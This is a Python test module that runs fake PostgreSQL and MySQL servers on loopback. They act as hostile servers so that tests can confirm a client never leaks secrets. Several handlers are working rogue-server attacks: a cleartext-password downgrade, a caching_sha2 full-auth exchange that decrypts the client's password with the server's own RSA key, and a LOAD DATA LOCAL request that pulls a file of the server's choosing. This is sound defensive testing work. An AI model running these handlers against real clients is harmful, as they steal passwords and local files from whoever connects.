"""Fake database servers on loopback: real sockets that record what a client sends.

They speak just enough of the PostgreSQL v3 and MySQL protocols to play a
server that an attacker runs: ask for a cleartext password, switch to the
``mysql_clear_password`` plugin, greet with a banner, offer TLS with a
certificate of their own. Everything the client sends is kept in
``received``, so a test can assert that a secret never arrived.
"""

from __future__ import annotations

import socket
import ssl
import struct
import threading
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

Handler = Callable[["FakeServer", socket.socket], None]


class FakeServer:
    """A TCP server on 127.0.0.1 running ``handler`` for each client in a thread."""

    def __init__(self, handler: Handler) -> None:
        self.handler = handler
        self.received = bytearray()
        self.events: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.2)
        self.port: int = self._listener.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, name="fake-server", daemon=True)

    def __enter__(self) -> FakeServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self._stop.set()
        self._thread.join(5)
        self._listener.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                client, _ = self._listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            client.settimeout(3)
            threading.Thread(target=self._run, args=(client,), daemon=True).start()

    def _run(self, client: socket.socket) -> None:
        try:
            self.handler(self, client)
        except (OSError, ssl.SSLError) as exc:
            self.events.append(f"closed: {type(exc).__name__}")
        finally:
            client.close()

    def recv_exact(self, sock: socket.socket, size: int) -> bytes:
        """``size`` bytes from the client (recorded), or ConnectionError at EOF."""
        data = b""
        while len(data) < size:
            chunk = sock.recv(size - len(data))
            if not chunk:
                raise ConnectionError("client closed")
            data += chunk
        self.received += data
        return data

    def drain(self, sock: socket.socket) -> None:
        """Record whatever else the client sends until it closes or goes quiet."""
        try:
            while chunk := sock.recv(65536):
                self.received += chunk
        except (TimeoutError, OSError):
            pass


# ------------------------------------------------------------------ PostgreSQL

_SSL_REQUEST = 80877103
_GSSENC_REQUEST = 80877104


def pg_startup(server: FakeServer, sock: socket.socket) -> bytes:
    """Read the StartupMessage, refusing SSL and GSS encryption requests with 'N'."""
    while True:
        (length,) = struct.unpack("!i", server.recv_exact(sock, 4))
        body = server.recv_exact(sock, length - 4)
        (code,) = struct.unpack("!i", body[:4])
        if code in (_SSL_REQUEST, _GSSENC_REQUEST):
            sock.sendall(b"N")
            continue
        server.events.append("startup")
        return body


def pg_cleartext_password(server: FakeServer, sock: socket.socket) -> None:
    """Ask for the password in cleartext (AuthenticationCleartextPassword) and keep it."""
    pg_startup(server, sock)
    sock.sendall(b"R" + struct.pack("!ii", 8, 3))
    server.drain(sock)


def pg_error(message: str) -> Handler:
    """A server that answers the startup with a FATAL error carrying ``message``."""

    def handler(server: FakeServer, sock: socket.socket) -> None:
        pg_startup(server, sock)
        fields = b"SFATAL\x00C28000\x00M" + message.encode() + b"\x00\x00"
        server.events.append("greeted")  # before the words go out: see banner
        sock.sendall(b"E" + struct.pack("!i", len(fields) + 4) + fields)
        server.drain(sock)

    return handler


def banner(text: str) -> Handler:
    """Not a database at all: a service that greets with ``text`` and hangs up."""

    def handler(server: FakeServer, sock: socket.socket) -> None:
        # Recorded before the words go out: a client that has read them (and
        # returned) finds the event; the handler's thread is not joined.
        server.events.append("greeted")
        sock.sendall(text.encode() + b"\r\n")
        server.drain(sock)

    return handler


# ----------------------------------------------------------------------- MySQL

CLIENT_CONNECT_WITH_DB = 0x8
CLIENT_PROTOCOL_41 = 0x200
CLIENT_SSL = 0x800
CLIENT_SECURE_CONNECTION = 0x8000
CLIENT_PLUGIN_AUTH = 0x80000
# The 20-byte nonce of every greeting (fixed: the fake server is not secure).
MYSQL_SALT = b"abcdefghijklmnopqrst"


def mysql_packet(seq: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


def mysql_read(server: FakeServer, sock: socket.socket) -> tuple[int, bytes]:
    header = server.recv_exact(sock, 4)
    length = int.from_bytes(header[:3], "little")
    return header[3], server.recv_exact(sock, length)


def mysql_greeting(*, tls: bool = False, plugin: str = "mysql_native_password") -> bytes:
    """A protocol 10 handshake as MariaDB sends it."""
    caps = CLIENT_CONNECT_WITH_DB | CLIENT_PROTOCOL_41 | CLIENT_SECURE_CONNECTION
    caps |= CLIENT_PLUGIN_AUTH | (CLIENT_SSL if tls else 0)
    salt = MYSQL_SALT
    return (
        b"\x0a5.7.99-fake\x00"
        + struct.pack("<I", 7)
        + salt[:8]
        + b"\x00"
        + struct.pack("<H", caps & 0xFFFF)
        + bytes([45])
        + struct.pack("<H", 2)
        + struct.pack("<H", caps >> 16)
        + bytes([21])
        + b"\x00" * 10
        + salt[8:]
        + b"\x00"
        + plugin.encode()
        + b"\x00"
    )


def mysql_err(seq: int, code: int, message: str) -> bytes:
    return mysql_packet(seq, b"\xff" + struct.pack("<H", code) + b"#28000" + message.encode())


def mysql_clear_password_switch(server: FakeServer, sock: socket.socket) -> None:
    """Greet, then switch the client to ``mysql_clear_password`` and keep what it sends."""
    sock.sendall(mysql_packet(0, mysql_greeting()))
    seq, _ = mysql_read(server, sock)
    server.events.append("handshake response")
    sock.sendall(mysql_packet(seq + 1, b"\xfemysql_clear_password\x00"))
    server.drain(sock)


def mysql_caching_sha2_full_auth(server: FakeServer, sock: socket.socket) -> None:
    """Greet with ``caching_sha2_password``, demand full authentication, read the password.

    The attack PyMySQL falls for: answer "full authentication needed" (4),
    hand over this server's own RSA public key when asked (2), decrypt what
    comes back and record the plaintext in ``received``.
    """
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    sock.sendall(mysql_packet(0, mysql_greeting(plugin="caching_sha2_password")))
    seq, _ = mysql_read(server, sock)
    sock.sendall(mysql_packet(seq + 1, b"\x01\x04"))  # fast path failed: full auth
    seq, payload = mysql_read(server, sock)
    if payload == b"\x02":  # the client asks for the public key
        sock.sendall(mysql_packet(seq + 1, b"\x01" + pem))
        seq, payload = mysql_read(server, sock)
    server.events.append("full auth answer")
    oaep = padding.OAEP(mgf=padding.MGF1(hashes.SHA1()), algorithm=hashes.SHA1(), label=None)
    try:
        plain = key.decrypt(payload, oaep)
    except ValueError:
        return
    salt = MYSQL_SALT
    server.received += bytes(b ^ salt[i % len(salt)] for i, b in enumerate(plain))


def mysql_load_local(path: str) -> Handler:
    """Accept any login and session set-up, then answer a query by asking for ``path``.

    What a hostile or compromised server does with ``LOAD DATA LOCAL``: the
    answer to any query (here the first one that is not a ``SET``) may be a
    request for a file of the client's choosing, here the worker's; whatever
    the client sends is recorded.
    """
    ok = b"\x00\x00\x00\x02\x00\x00\x00"

    def handler(server: FakeServer, sock: socket.socket) -> None:
        sock.sendall(mysql_packet(0, mysql_greeting()))
        seq, _ = mysql_read(server, sock)
        sock.sendall(mysql_packet(seq + 1, ok))
        while True:
            _, query = mysql_read(server, sock)
            text = query[1:].decode(errors="replace")
            server.events.append(f"query: {text}")
            if not text.upper().startswith("SET "):
                break
            sock.sendall(mysql_packet(1, ok))
        sock.sendall(mysql_packet(1, b"\xfb" + path.encode()))
        server.events.append("asked for the file")
        server.drain(sock)

    return handler


def mysql_error(message: str) -> Handler:
    """Greet, then refuse the login with an error carrying ``message``."""

    def handler(server: FakeServer, sock: socket.socket) -> None:
        sock.sendall(mysql_packet(0, mysql_greeting()))
        seq, _ = mysql_read(server, sock)
        server.events.append("greeted")  # before the words go out: see banner
        sock.sendall(mysql_err(seq + 1, 1130, message))
        server.drain(sock)

    return handler


def mysql_tls(context: ssl.SSLContext) -> Handler:
    """Offer TLS with ``context``'s certificate; record whether the client got through it."""

    def handler(server: FakeServer, sock: socket.socket) -> None:
        sock.sendall(mysql_packet(0, mysql_greeting(tls=True)))
        _, payload = mysql_read(server, sock)
        (flags,) = struct.unpack("<I", payload[:4])
        if not flags & CLIENT_SSL or len(payload) != 32:
            server.events.append("no tls")
            return
        try:
            secure = context.wrap_socket(sock, server_side=True)
        except (ssl.SSLError, OSError) as exc:
            server.events.append(f"tls refused: {type(exc).__name__}")
            return
        server.events.append("tls established")
        try:
            seq, _ = mysql_read(server, secure)
            server.events.append("handshake response over tls")
            # Refuse the login: the test only needs to see the TLS step pass.
            secure.sendall(mysql_err(seq + 1, 1045, "Access denied (fake server)"))
        finally:
            secure.close()

    return handler
